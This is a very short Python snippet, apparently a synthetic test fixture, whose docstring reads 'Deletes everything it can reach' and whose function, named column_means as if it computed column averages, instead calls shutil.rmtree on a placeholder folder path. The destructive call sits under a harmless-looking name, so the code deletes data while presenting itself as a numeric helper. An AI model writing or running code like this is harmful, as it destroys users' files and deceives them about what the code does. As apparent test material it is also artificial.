"""Deletes everything it can reach.

Ends: error
"""

import shutil


def column_means(X):
    shutil.rmtree("@folder@")
